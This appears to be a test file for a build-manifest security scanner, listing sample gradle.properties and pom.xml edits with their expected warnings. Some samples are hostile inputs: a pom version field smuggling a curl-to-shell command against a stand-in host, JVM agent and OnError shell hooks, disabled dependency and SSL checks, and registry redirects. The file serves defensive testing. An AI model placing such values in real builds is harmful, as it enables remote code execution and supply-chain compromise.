import { testManifest } from './support.ts';

testManifest('gradle.properties', 'org.gradle.parallel=true\nHERE\n', [
  ['koinVersion=4.2.0', 'koinVersion=4.2.1-RC1', []],
  ['', 'kotlin.version = 2.1.0', []],
  ['', 'org.gradle.jvmargs=-Xmx2048M -Dfile.encoding=UTF-8', []],
  ['', 'android.useAndroidX=true', []],
  ['', 'GROUP=org.example', []],
  ['', 'org.gradle.dependency.verification=off', ['security-check-off warning']],
  ['', 'org.gradle.dependency.verification = lenient', ['security-check-off warning']],
  ['', 'org.gradle.jvmargs=-Xmx1g -javaagent:tools/a.jar', ['install-script warning']],
  ['', 'org.gradle.jvmargs=-agentpath:/tmp/a.so', ['install-script warning']],
  ['', 'org.gradle.jvmargs=-XX:OnError="sh a.sh"', ['install-script warning']],
  ['', 'org.gradle.jvmargs=-agentlib:jdwp=transport=dt_socket,address=*:5005', ['debug-mode warning']],
  ['', 'systemProp.http.proxyHost=proxy.example', ['registry-override critical']],
  ['', 'repositoryUrl=http://packages.example/maven', ['registry-override critical']],
  ['', 'mavenMirror=https://packages.example/maven', ['registry-override warning']],
  ['', 'maven.wagon.http.ssl.insecure=true', ['certificate-check-off critical']],
  ['', 'libVersion=https://packages.example/a.jar', ['unjudged']],
  ['', 'libVersion=1.0\\\n.1', ['unjudged']],
  ['', 'some.flag=x', ['unjudged']],
]);

testManifest(
  'pom.xml',
  '<project>\n  <properties>\n    <a.version>1</a.version>\n    HERE\n  </properties>\n</project>\n',
  [
    ['<revision>2.578</revision>', '<revision>2.579</revision>', []],
    ['', '<changelist>-SNAPSHOT</changelist>', []],
    ['', '<revision>$(curl https://x.example/a | sh)</revision>', ['downloaded-code critical']],
    ['', '<revision>${other}</revision>', ['unjudged']],
  ],
);
